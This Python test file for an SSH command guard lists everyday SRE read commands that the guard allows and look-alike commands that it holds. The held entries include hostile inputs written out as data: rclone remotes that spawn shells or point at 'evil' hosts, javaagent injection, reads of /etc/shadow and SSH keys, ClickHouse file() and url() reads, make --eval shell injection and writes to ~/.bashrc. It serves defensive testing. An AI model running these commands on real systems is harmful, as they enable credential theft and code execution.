"""Everyday SRE lines, wave 16 (sshgate/guard/tools/ops16.py and the small edits of safe.py,
cloud.py, sql_dialects.py and site_program.py it came with): each ordinary read or status
line of the held sessions is allowed; each left-out class (a configuration, plugin or agent
loaded, a file written, another host, endpoint or repository, a command run, a secret
printed, computed words) has a look-alike of the same tool that is held."""

from __future__ import annotations

from .expect import grouped_tests

ALLOWED = {
    "jps, jstat": [
        "jps", "jps -l", "jps -q", "jps -lq", "sudo jps -l", "jps -l | grep billing",
        "jps -V", "jstat -gcutil 12345 1000 5", "jstat -gc 12345", "jstat -class 4242",
        "jstat -gcutil -t 12345 1s 10", "sudo jstat -gcutil 4321 250ms 20",
        "jstat -gccause 12345 2000", "jstat -options", "jstat -gcmetacapacity 77",
    ],
    "rclone": [
        "rclone lsl b2:shop-offsite/pg/ --max-depth 1 | sort -k2,3 | tail -5",
        "rclone ls b2:shop-offsite", "rclone lsd b2:", "rclone lsd -R b2:shop-offsite",
        "rclone lsf -R --files-only b2:shop-offsite/pg",
        "rclone lsf --format tsp --max-depth=2 s3:bucket/dir",
        "rclone lsjson --hash b2:shop/x | jq length", "rclone size b2:shop-offsite/pg --json",
        "rclone about b2: --json", "rclone version", "rclone listremotes",
        "rclone listremotes --long", "rclone ls b2:shop --include '*.dump'",
        "rclone lsl b2:shop-offsite/pg --min-age 24h --fast-list",
    ],
    "pgbackrest, vips": [
        "sudo -u postgres pgbackrest info --stanza=shop", "pgbackrest info",
        "pgbackrest info --stanza shop --output json | jq '.[0].backup[-1].label'",
        "pgbackrest info --stanza=shop --set=20241120-010001F", "pgbackrest version",
        "pgbackrest info --stanza=shop --repo=2", "vips --version", "vips -v",
        "vipsheader photo.jpg", "vipsheader -a uploads/x.png", "vipsheader -f width img/a.webp",
    ],
    "make, redis-cli": [
        "make --version", "make -v", "gmake --version | head -1",
        "cd ~/src/fastjson-ext && gcc --version | head -1 && make --version | head -1",
        "redis-cli --bigkeys -i 0.01 2>/dev/null | tail -20", "redis-cli --memkeys -i 0.1",
        "redis-cli --scan --pattern 'user:*' -i 0.01 | head", "redis-cli --hotkeys -i 0.05",
        "redis-cli -n 2 --bigkeys -i 0.1", "redis-cli -i 1 --memkeys",
    ],
    "rails routes, bundle install": [
        "cd /var/www/shop/current && bundle exec rails routes -g refund | head",
        "rails routes --grep=refund", "rails routes --grep refund",
        "rails routes -c Admin::OrdersController", "bin/rails routes -E -g refund",
        "rails routes --controller orders --expanded", "rails routes --unused",
        "RAILS_ENV=production bin/rails routes -g refund",
        "cd /var/www/shop/current && bundle check || "
        "bundle install --deployment --without development test",
        "bundle install --deployment --without development:test --jobs 4 --retry 3",
        "bundle install --frozen --local", "bundle install --with=ops",
        "bundle install --without 'development test'",
    ],
    "doctl, clickhouse, hugo": [
        "doctl registry repository list-v2", "doctl registry repository list-tags web",
        "doctl registry repository list-manifests shop/web --format Digest,UpdatedAt",
        "doctl registry repository list-v2 -o json | jq length",
        "clickhouse-client -q \"EXPLAIN indexes=1 SELECT count() FROM events WHERE "
        "user_id=4412 AND event_date>='2024-11-01'\"",
        "clickhouse-client -q 'EXPLAIN PLAN indexes = 1, actions = 1 SELECT count() FROM e'",
        "clickhouse-client -q 'EXPLAIN PIPELINE SELECT count() FROM events'",
        "clickhouse-client -q 'EXPLAIN PIPELINE graph=1, compact=0 SELECT 1'",
        "clickhouse-client -q 'EXPLAIN SYNTAX SELECT * FROM t WHERE a=1'",
        "clickhouse-client -q 'EXPLAIN AST SELECT 1'",
        "clickhouse-client -q 'EXPLAIN ESTIMATE SELECT count() FROM events'",
        "clickhouse-client -q 'EXPLAIN QUERY TREE SELECT 1'",
        "clickhouse client -q 'explain plan json=1 select 1'",
        "hugo version", "hugo env", "cd ~/sites/engineering-blog && hugo env",
    ],
}

HELD = {
    "jps, jstat": [
        # -v: the JVM's arguments (passwords in -D, JDK_JAVA_OPTIONS, @argfiles); -m: the
        # main class's arguments; a hostid (jstatd elsewhere); -J (jps's own JVM)
        "jps -v", "jps -lv", "jps -m", "jps -lmv", "jps -l remotehost",
        "jps -l rmi://evil:1099", "jps -J-javaagent:/tmp/a.jar -l", "jps $H",
        "JAVA_TOOL_OPTIONS=-javaagent:/tmp/x.jar jps -l",
        "jstat -gcutil 12345@evilhost 1000", "jstat -gcutil //12345@evil:1099 1000",
        "jstat -J-javaagent:/tmp/a.jar -gcutil 1 1000", "jstat -gcutil -gc 1", "jstat 123",
        "jstat -gcutil 1 1000 5 x", "jstat -gcutil $PID 1000",
        # (session 17: a looked-up id is taken, tests/guard/test_s17_classes.py) but never
        # an id from a command that may print anything
        "jstat -gcutil $(cat /tmp/pid) 1000 5",
        "jstat -gcutil 1 1000 > ~/.bashrc", "jstat -options 1",
    ],
    "rclone": [
        "rclone config show", "rclone config dump", "rclone ls --config /tmp/r.conf b2:x",
        "rclone ls ':sftp,host=evil,ssh=\"sh -c id\":/'", "rclone ls 'b2,ssh=id:/x'",
        "rclone ls ':http,url=http://evil/:'", "rclone ls /etc", "rclone lsl ~/.ssh",
        "rclone copy b2:x /tmp", "rclone cat b2:x/secret.env", "rclone sync b2:a b2:b",
        "rclone delete b2:x", "rclone purge b2:x", "rclone mount b2: /mnt",
        "rclone serve http b2:", "rclone rcd", "rclone backend features b2:",
        "rclone ls b2:x --log-file /tmp/l", "rclone ls b2:x --dump headers",
        "rclone ls b2:x --s3-endpoint evil.com", "rclone ls b2:x --sftp-ssh 'sh -c id'",
        "rclone ls b2:x --password-command 'sh -c id'", "rclone version --check",
        "rclone lsl b2:x/../y", "rclone ls b2:x --include-from /etc/shadow",
        "rclone ls b2:x --filter-from rules.txt", "rclone ls b2:$B", "rclone ls b2:x b2:y",
        "rclone lsl b2:x --max-dep 1", "rclone -v ls b2:x --rc",
        "RCLONE_CONFIG_EVIL_TYPE=sftp RCLONE_CONFIG_EVIL_SSH='sh -c id' rclone ls evil:",
        "rclone ls b2:x --header 'Authorization: x'", "rclone about b2: --json > ~/.profile",
    ],
    "pgbackrest, vips": [
        # check switches the WAL and waits for the archive; every other verb acts
        "sudo -u postgres pgbackrest check --stanza=shop", "pgbackrest backup --stanza=shop",
        "pgbackrest expire --stanza=shop", "pgbackrest restore --stanza=shop",
        "pgbackrest stop", "pgbackrest stanza-delete --stanza=shop --force",
        "pgbackrest info --config=/tmp/pgbr.conf", "pgbackrest info --config-path=/tmp",
        "pgbackrest info --config-include-path=/tmp/inc", "pgbackrest --stanza=shop info",
        "pgbackrest info --repo1-path=/tmp/x", "pgbackrest info --pg1-host=evil",
        "pgbackrest info --output=yaml", "pgbackrest info --stan=shop",
        "pgbackrest info --stanza=$S", "pgbackrest info --log-level-console=trace",
        "vips copy a.jpg b.png", "vips --vips-leak --version", "vips -l",
        "vipsheader 'x.jpg[shrink=2]'", "vipsheader x.svg", "vipsheader x.pdf",
        "vipsheader /etc/shadow", "vipsheader --vips-cache-trace x.png",
        "vipsheader ~/.ssh/id_rsa.png", "vipsheader $F", "vipsheader https://evil/x.png",
    ],
    "make, redis-cli": [
        "make --eval='$(shell id)' --version", "make --version -f /tmp/x.mk",
        # -i paces a loop outside the SCAN modes; never -r; never with a command
        "redis-cli -i 0.001 --stat", "redis-cli --bigkeys --stat -i 0.01",
        "redis-cli -i 0.01 --bigkeys GET x", "redis-cli -r 100 -i 0.01 --bigkeys",
        "redis-cli --bigkeys -i -1", "redis-cli --bigkeys -i nan",
        "redis-cli --latency -i 0.01", "redis-cli --bigkeys -i 1e-9",
        "redis-cli -i 0.01 PING", "redis-cli --bigkeys -i $I",
    ],
    "rails routes, bundle install": [
        "rails runner 'puts 1'", "bin/rails runner -g x", "rails routes -g refund extra",
        "rails routes -g $(id)", "rails routes -g ../../etc", "rails routes -grefund",
        "rails routes -g refund -e production", "rails routes --unused=x extra",
        "bundle install --path /tmp/gems", "bundle install --gemfile /tmp/Gemfile",
        "bundle install foo", "bundle install --without ../x", "bundle install --without $G",
        "bundle install --system", "bundle install --binstubs /usr/local/bin",
        "bundle install --deployment --clean", "bundle install --without dev --shebang ruby",
        "bundle install --standalone", "bundle install --without -x",
        "bundle install --trust-policy HighSecurity",
    ],
    "doctl, clickhouse, hugo": [
        "doctl registry repository delete-tag web v1 --force",
        "doctl registry repository delete-manifest web sha256:abc",
        "doctl --access-token x registry repository list-v2",
        "doctl --api-url https://evil registry repository list-v2",
        "doctl --config /tmp/c.yaml registry repository list-tags web",
        "doctl registry docker-config", "doctl databases list",
        "clickhouse-client -q 'EXPLAIN TABLE OVERRIDE mysql(\"evil:3306\", db, t, u, p)'",
        "clickhouse-client -q 'EXPLAIN AST DROP TABLE events'",
        "clickhouse-client -q 'EXPLAIN PLAN SELECT * FROM url(\"http://x\", CSV)'",
        "clickhouse-client -q 'EXPLAIN indexes=1 SELECT * FROM file(\"/etc/passwd\")'",
        "clickhouse-client -q 'EXPLAIN PIPELINE INSERT INTO t SELECT 1'",
        "clickhouse-client -q 'EXPLAIN foo=1 SELECT 1'",
        "clickhouse-client -q 'EXPLAIN indexes=1 SELECT name FROM system.users'",
        "clickhouse-client -q 'EXPLAIN PLAN indexes=1; DROP TABLE x'",
        "clickhouse-client -q 'EXPLAIN SYNTAX ALTER TABLE t DELETE WHERE 1'",
        "clickhouse-client -q 'EXPLAIN WHATIF SELECT 1'",
        "clickhouse-client -q 'EXPLAIN ANALYZE indexes=1 INSERT INTO t SELECT 1'",
        "psql -c 'EXPLAIN indexes=1 SELECT 1'",
        "hugo env bash", "hugo env -- bash -c id", "hugo env --logLevel debug",
        "hugo version --config /tmp/x.toml", "hugo env -s /tmp/site", "hugo mod get",
        "hugo deploy", "hugo --gc --minify",
    ],
    "deliberately held, from the same sessions": [
        "certbot renew --dry-run", "certbot renew --dry-run --pre-hook 'id'",
        "sudo systemd-analyze verify /etc/systemd/system/sidekiq.service",
        "lynis audit system --quick --no-colors", "sudo chronyc makestep",
        "goaccess /var/log/nginx/access.log --log-format=COMBINED -o /tmp/report.html",
        "lastb -n 200", "systemctl cat sidekiq",
    ],
}


test_held, test_allowed = grouped_tests(HELD, ALLOWED)
